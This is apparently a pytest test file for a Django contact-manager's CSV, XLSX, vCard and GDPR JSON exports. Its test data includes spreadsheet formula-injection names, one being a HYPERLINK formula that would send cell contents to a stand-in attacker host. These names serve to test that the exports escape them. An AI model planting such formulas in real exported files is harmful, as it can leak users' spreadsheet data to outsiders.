"""Exports: a filtered list as CSV (opens in Excel, safe from formula injection), XLSX and
vCards; one person's complete data as JSON (GDPR); the export_contacts command; the API.

Until svrazka/urls.py and svrazka/api/urls.py mount the exports, this module is its own URL
configuration: the site's URLs, with the exports pages and an API carrying the exports router
in front of them. ``test_the_site_mounts_the_exports`` checks the real wiring once it is there.
"""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import include, path
from ninja import NinjaAPI

from svrazka.api import errors
from svrazka.api.auth import TokenAuth
from svrazka.api.exports import build_router
from svrazka.contacts import services as contacts
from svrazka.contacts.models import Person
from svrazka.contacts.selectors import ContactFilters
from svrazka.exports import services, tables, writers
from svrazka.imports.records import ContactRecord
from svrazka.imports.vcard import iter_records
from svrazka.touchpoints.models import Task
from svrazka.touchpoints.services import log_interaction
from tests.api_client import Caller
from tests.factories import make_organisation, make_person

_api = NinjaAPI(urls_namespace="exports-test-api", auth=TokenAuth())
errors.register(_api)
_api.add_router("/", build_router())
urlpatterns = [
    path("api/v1/", _api.urls),
    path("w/<slug:slug>/", include("svrazka.exports.urls")),
    path("", include("svrazka.urls")),
]

pytestmark = pytest.mark.urls("tests.test_exports")

EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+2", "@SUM(1)", "-2+3"]


def _tag(workspace, name):
    return contacts.tag_get_or_create(workspace=workspace, name=name)


@pytest.fixture
def people(workspace, alice):
    partners = _tag(workspace, "партньори")
    org = make_organisation(workspace, alice, name="Фондация „Отворено общество“", country="BG")
    ivan = make_person(
        workspace,
        alice,
        given_name="Иван",
        middle_name="Петров",
        family_name="Иванов",
        emails=["ivan@example.org", "ivan.ivanov@example.bg"],
        phones=["+359888123456"],
        country="BG",
        city="София",
        date_of_birth=date(1980, 4, 15),
        languages=["bg", "en"],
        notes="Първи ред\nвтори ред, с „кавички“",
        tags=[partners],
    )
    contacts.affiliation_create(
        workspace=workspace,
        actor=alice,
        person=ivan,
        organisation=org,
        data={"position": "Директор", "start_date": date(2020, 1, 1), "end_date": None},
    )
    maria = make_person(
        workspace, alice, given_name="Maria", family_name="Papadopoulou", country="GR"
    )
    evil = [make_person(workspace, alice, given_name=name, family_name="") for name in EVIL_NAMES]
    return {"ivan": ivan, "maria": maria, "org": org, "evil": evil, "tag": partners}


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    text = body.decode("utf-8")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:500]
    return response


# --- CSV --------------------------------------------------------------------------------------


def test_csv_of_people_opens_in_excel_with_ids_and_cyrillic(bob_client, people):
    response = _download(bob_client, "/w/ngo/people/export/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="svrazka-people-')
    assert disposition.endswith('.csv"')
    assert "no-store" in response["Cache-Control"]
    rows = _csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["ID", "Given name", "Middle name", "Family name"]
    assert len(body) == 2 + len(EVIL_NAMES)
    assert all(len(row) == len(header) for row in body)
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    ivan = by_id[people["ivan"].pk]
    assert ivan["Given name"] == "Иван" and ivan["Family name"] == "Иванов"
    assert ivan["Emails"] == "ivan@example.org; ivan.ivanov@example.bg"
    assert ivan["Phones"] == "'+359888123456"  # E.164, marked as text like every "+" cell
    assert ivan["Current organisations"] == "Фондация „Отворено общество“"
    assert ivan["Current positions"] == "Директор"
    assert ivan["Date of birth"] == "1980-04-15"
    assert ivan["Languages"] == "bg; en"
    assert ivan["Tags"] == "партньори"
    assert ivan["Notes"] == "Първи ред\nвтори ред, с „кавички“"
    assert ivan["Consent"] == "Not asked"
    assert [int(row[0]) for row in body] == sorted(by_id)  # in id order


def test_csv_cells_that_would_run_as_formulas_are_text(bob_client, people):
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/"))
    given = {int(row[0]): row[1] for row in rows[1:]}
    for person, name in zip(people["evil"], EVIL_NAMES, strict=True):
        assert given[person.pk] == "'" + name
    assert given[people["maria"].pk] == "Maria"  # others untouched


def test_safe_cell_marks_every_trigger():
    for value in ("=1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert writers.safe_cell(value) == "'" + value
    for value in ("", "Иван", "1-2", "a=b", " =1"):
        assert writers.safe_cell(value) == value


def test_csv_header_is_in_the_users_language(bob_client, bob, people):
    bob.language = "bg"
    bob.save()
    session = bob_client.session
    session["language"] = "bg"
    session.save()
    header = _csv_rows(_download(bob_client, "/w/ngo/people/export/"))[0]
    assert "Собствено име" in header and "Фамилия" in header
    assert "Given name" not in header


def test_export_keeps_the_lists_filters(bob_client, people, workspace):
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/", country="GR"))
    assert [int(r[0]) for r in rows[1:]] == [people["maria"].pk]
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/", tag=people["tag"].pk))
    assert [int(r[0]) for r in rows[1:]] == [people["ivan"].pk]
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/", q="ivanov"))
    assert [int(r[0]) for r in rows[1:]] == [people["ivan"].pk]
    url = "/w/ngo/people/export/"
    rows = _csv_rows(_download(bob_client, url, organisation=people["org"].pk))
    assert [int(r[0]) for r in rows[1:]] == [people["ivan"].pk]


def test_csv_of_organisations(bob_client, people, workspace, alice):
    make_organisation(workspace, alice, name="Σύλλογος Αρωγή", kind="ngo", country="GR")
    rows = _csv_rows(_download(bob_client, "/w/ngo/organisations/export/", country="BG"))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["ID", "Name", "Short name", "Type"]
    assert len(body) == 1
    org = dict(zip(header, body[0], strict=True))
    assert int(org["ID"]) == people["org"].pk
    assert org["Name"] == "Фондация „Отворено общество“"
    assert org["Type"] == "NGO" and org["Country"] == "BG"


def test_an_empty_list_exports_its_header(bob_client, people):
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/", country="RO"))
    assert len(rows) == 1 and rows[0][0] == "ID"
    response = _download(bob_client, "/w/ngo/people/export/", country="RO", format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 1 and sheet["B1"].value == "Given name"
    response = _download(bob_client, "/w/ngo/people/export/", country="RO", format="vcard4")
    assert b"".join(response.streaming_content) == b""


def test_several_current_organisations_line_up_with_their_positions(workspace, alice, people):
    ivan = people["ivan"]
    second = make_organisation(workspace, alice, name="Сдружение Б")
    contacts.affiliation_create(
        workspace=workspace,
        actor=alice,
        person=ivan,
        organisation=second,
        data={"position": "", "start_date": date(2019, 1, 1), "end_date": None},
    )
    ended = make_organisation(workspace, alice, name="Бивша")
    contacts.affiliation_create(
        workspace=workspace,
        actor=alice,
        person=ivan,
        organisation=ended,
        data={"position": "Стажант", "start_date": None, "end_date": date(2015, 1, 1)},
    )
    header = tables.people_header()
    queryset = Person.objects.filter(pk=ivan.pk)
    [row] = tables.people_rows(workspace=workspace, queryset=queryset)
    cells = dict(zip(header, row, strict=True))
    assert cells["Current organisations"] == "Фондация „Отворено общество“; Сдружение Б"
    assert cells["Current positions"] == "Директор; —"


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_reads_back_as_the_csv_rows(bob_client, people):
    csv_rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/"))
    response = _download(bob_client, "/w/ngo/people/export/", format="xlsx")
    assert response["Content-Disposition"].endswith('.xlsx"')
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body), read_only=True).active
    xlsx_rows = [
        ["" if v is None else str(v) for v in row]
        for row in sheet.iter_rows(values_only=True, max_col=len(csv_rows[0]))
    ]
    assert isinstance(next(sheet.iter_rows(min_row=2, values_only=True))[0], int)  # id
    # The same cells; XLSX cells are typed text, so they need no apostrophe against formulas.
    unmarked = [
        [c[1:] if c[:2] in {"'" + t for t in writers.FORMULA_TRIGGERS} else c for c in row]
        for row in csv_rows
    ]
    assert xlsx_rows == unmarked
    names = {row[1] for row in xlsx_rows}
    assert set(EVIL_NAMES) <= names


def test_xlsx_refuses_more_rows_than_excel_holds(monkeypatch, workspace, people):
    monkeypatch.setattr(services, "XLSX_MAX_DATA_ROWS", 3)
    with pytest.raises(writers.ExportTooLarge, match="at most"):
        services.people_export(workspace=workspace, filters=ContactFilters(), fmt="xlsx")
    with pytest.raises(writers.ExportTooLarge):
        b"".join(writers.xlsx_pieces(iter([["1"]] * (writers.EXCEL_MAX_ROWS)), ["ID"]))


def test_too_large_xlsx_page_says_so(bob_client, monkeypatch, people):
    monkeypatch.setattr(services, "XLSX_MAX_DATA_ROWS", 3)
    response = bob_client.get("/w/ngo/people/export/", {"format": "xlsx", "sort": "-name"})
    assert response.status_code == 302
    assert response["Location"] == "/w/ngo/people/?sort=-name"  # back to the same list
    page = bob_client.get(response["Location"])
    assert "export it as CSV" in page.content.decode()


def test_xlsx_escapes_markup_and_drops_control_characters():
    out = io.BytesIO()
    rows = [["1", "a & b <c>", " lead", "bell\x07"]]
    assert writers.write_xlsx(rows, ["ID", "A", "B", "C"], out) == 1
    with zipfile.ZipFile(out) as zf:
        assert zf.testzip() is None
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in sheet[2]] == [1, "a & b <c>", " lead", "bell"]
    assert sheet["A1"].font.b


# --- vCard ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt, version", [("vcard4", "4.0"), ("vcard3", "3.0")])
def test_vcards_read_back(bob_client, people, fmt, version):
    response = _download(bob_client, "/w/ngo/people/export/", format=fmt)
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert response["Content-Disposition"].endswith('.vcf"')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.count(f"VERSION:{version}") == 2 + len(EVIL_NAMES)
    records = [r for _line, r in iter_records(io.StringIO(text, newline=""))]
    assert all(isinstance(r, ContactRecord) for r in records)
    ivan = next(r for r in records if r.family_name == "Иванов")
    assert ivan.given_name == "Иван" and ivan.middle_name == "Петров"
    assert ivan.emails == ["ivan@example.org", "ivan.ivanov@example.bg"]
    assert ivan.phones == ["+359888123456"]
    assert ivan.organisation == "Фондация „Отворено общество“"
    assert ivan.position == "Директор"
    assert ivan.tags == ["партньори"]
    uid = tables.uid_for(people["ivan"].workspace, "person", people["ivan"].pk)
    assert f"UID:{uid}" in text.replace("\r\n ", "")


def test_vcards_of_organisations(bob_client, people):
    response = _download(bob_client, "/w/ngo/organisations/export/", format="vcard4")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert "KIND:org" in text
    [record] = [r for _line, r in iter_records(io.StringIO(text, newline=""))]
    assert record.kind == "organisation"
    assert record.organisation == "Фондация „Отворено общество“"


def test_unknown_format_is_a_message_not_an_error(bob_client, people):
    response = bob_client.get("/w/ngo/people/export/", {"format": "pdf"})
    assert response.status_code == 302
    assert "pdf" in bob_client.get(response["Location"]).content.decode()


# --- who may export ---------------------------------------------------------------------------


def test_viewers_and_outsiders_cannot_export(vera_client, oscar_client, people):
    for url in (
        "/w/ngo/people/export/",
        "/w/ngo/organisations/export/",
        f"/w/ngo/people/{people['ivan'].pk}/export.json",
    ):
        assert vera_client.get(url).status_code == 403
        assert oscar_client.get(url).status_code == 404


def test_export_is_get_only(bob_client, people):
    assert bob_client.post("/w/ngo/people/export/").status_code == 405


def test_export_reads_only_its_workspace(bob_client, people, other_workspace, oscar):
    make_person(other_workspace, oscar, given_name="Чужд", family_name="Човек")
    rows = _csv_rows(_download(bob_client, "/w/ngo/people/export/"))
    assert "Чужд" not in {r[1] for r in rows}


# --- GDPR -------------------------------------------------------------------------------------


@pytest.fixture
def ivan_with_activity(people, workspace, alice):
    ivan = people["ivan"]
    log_interaction(
        workspace=workspace,
        actor=alice,
        channel="meeting",
        direction="out",
        occurred_at=datetime(2026, 3, 2, 10, 30, tzinfo=UTC),
        people=[ivan],
        subject="Среща за проекта",
        summary="Обсъдихме партньорството.",
    )
    Task.objects.create(workspace=workspace, title="Да изпратим договора", person=ivan)
    contacts.person_update(
        person=ivan,
        actor=alice,
        data={"city": "Пловдив"},
        version=Person.objects.get(pk=ivan.pk).version,
    )
    return ivan


def test_gdpr_json_holds_everything_about_the_person(bob_client, ivan_with_activity):
    ivan = ivan_with_activity
    response = _download(bob_client, f"/w/ngo/people/{ivan.pk}/export.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="svrazka-person-{ivan.pk}-'
    )
    assert "Иван".encode() in response.content  # not \u-escaped
    data = json.loads(response.content)
    assert data["person"]["id"] == ivan.pk
    assert data["person"]["given_name"] == "Иван"
    assert data["person"]["city"] == "Пловдив"
    assert data["person"]["date_of_birth"] == "1980-04-15"
    assert data["emails"] == ["ivan@example.org", "ivan.ivanov@example.bg"]
    assert data["phones"] == ["+359888123456"]
    [affiliation] = data["affiliations"]
    assert affiliation["organisation"]["name"] == "Фондация „Отворено общество“"
    assert affiliation["position"] == "Директор" and affiliation["start_date"] == "2020-01-01"
    [interaction] = data["interactions"]
    assert interaction["channel"] == "meeting" and interaction["direction"] == "out"
    assert interaction["summary"] == "Обсъдихме партньорството."
    assert interaction["occurred_at"].startswith("2026-03-02T10:30:00")
    assert [t["title"] for t in data["tasks"]] == ["Да изпратим договора"]
    actions = [h["action"] for h in data["history"]]
    assert actions[0] == "create" and "update" in actions
    assert any(h["changes"].get("city") == ["София", "Пловдив"] for h in data["history"])
    assert data["tags"] == ["партньори"]


def test_gdpr_json_of_another_workspaces_person_is_404(bob_client, other_workspace, oscar):
    stranger = make_person(other_workspace, oscar, given_name="Чужд")
    assert bob_client.get(f"/w/ngo/people/{stranger.pk}/export.json").status_code == 404
    assert bob_client.get("/w/ngo/people/999999/export.json").status_code == 404


# --- the command ------------------------------------------------------------------------------


def test_command_writes_the_file(workspace, people, tmp_path):
    out = io.StringIO()
    target = tmp_path / "people.csv"
    call_command(
        "export_contacts", "--workspace", "ngo", "--format", "csv", "--output", target, stdout=out
    )
    assert f"Exported {2 + len(EVIL_NAMES)} people to {target}" in out.getvalue()
    text = target.read_text(encoding="utf-8-sig")
    assert "Иванов" in text
    assert [p.name for p in tmp_path.iterdir()] == ["people.csv"]  # no temporary file left


@pytest.mark.parametrize("fmt, check", [("xlsx", b"PK"), ("vcard", b"VERSION:4.0")])
def test_command_writes_xlsx_and_vcards(workspace, people, tmp_path, fmt, check):
    target = tmp_path / f"organisations.{fmt}"
    call_command(
        "export_contacts",
        "--workspace=ngo",
        f"--format={fmt}",
        f"--output={target}",
        "--kind=organisations",
        stdout=io.StringIO(),
    )
    assert check in target.read_bytes()


def test_command_fails_cleanly(workspace, tmp_path):
    with pytest.raises(CommandError, match="No workspace"):
        call_command(
            "export_contacts", "--workspace=nope", "--format=csv", f"--output={tmp_path / 'x'}"
        )
    with pytest.raises(CommandError, match="does not exist"):
        call_command(
            "export_contacts",
            "--workspace=ngo",
            "--format=csv",
            f"--output={tmp_path / 'missing' / 'x.csv'}",
        )
    assert list(tmp_path.iterdir()) == []


def test_failed_command_leaves_no_half_file(workspace, people, tmp_path, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(tables, "people_rows", broken)
    with pytest.raises(RuntimeError):
        call_command(
            "export_contacts", "--workspace=ngo", "--format=csv", f"--output={tmp_path / 'p.csv'}"
        )
    assert list(tmp_path.iterdir()) == []


# --- rows in chunks ---------------------------------------------------------------------------


def test_rows_come_in_chunks_with_one_query_per_relation(
    workspace, people, django_assert_num_queries
):
    queryset = Person.objects.filter(workspace=workspace)
    # The names of causes and tags; then per chunk of two: the people, emails, phones,
    # affiliations, causes, tags; 6 people make 3 full chunks and one empty read.
    with django_assert_num_queries(2 + 3 * 6 + 1):
        rows = tables.people_rows(workspace=workspace, queryset=queryset, chunk_size=2)
        listed = [int(row[0]) for row in rows]
    assert listed == sorted(queryset.values_list("pk", flat=True))


# --- the API ----------------------------------------------------------------------------------


@pytest.fixture
def bob_api(client, workspace, bob):
    return Caller.of(client, workspace, bob)


def test_api_exports_people_as_a_file(bob_api, people):
    response = bob_api.get("/people/export", {"format": "csv", "country": "GR"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="svrazka-people-')
    rows = _csv_rows(response)
    assert [int(r[0]) for r in rows[1:]] == [people["maria"].pk]
    response = bob_api.get("/organisations/export", {"format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["A2"].value == people["org"].pk


def test_api_refuses_bad_formats_and_viewers(client, bob_api, workspace, vera, people):
    assert bob_api.get("/people/export", {"format": "pdf"}).status_code == 422
    viewer = Caller.of(client, workspace, vera)
    assert viewer.get("/people/export").status_code == 403
    assert viewer.get(f"/people/{people['ivan'].pk}/data").status_code == 403


def test_api_person_data_within_the_tokens_workspace(
    bob_api, ivan_with_activity, other_workspace, oscar
):
    response = bob_api.get(f"/people/{ivan_with_activity.pk}/data")
    assert response.status_code == 200
    data = json.loads(response.content)
    assert data["emails"][0] == "ivan@example.org" and data["interactions"]
    stranger = make_person(other_workspace, oscar, given_name="Чужд")
    assert bob_api.get(f"/people/{stranger.pk}/data").status_code == 404


@pytest.mark.urls("svrazka.urls")
def test_the_site_mounts_the_exports(bob_client, bob_api, people):
    """The real URL configuration: the pages, and the API's /people/export (which the contacts
    router's /people/{person_id} would take if it came first)."""
    from django.urls import resolve

    resolve("/w/ngo/people/export/")  # mounted by svrazka/urls.py
    assert bob_client.get("/w/ngo/people/export/").status_code == 200
    from svrazka.api.urls import api

    assert any("export" in str(p.pattern) for p in api.urls[0])
    assert bob_api.get("/people/export").status_code == 200
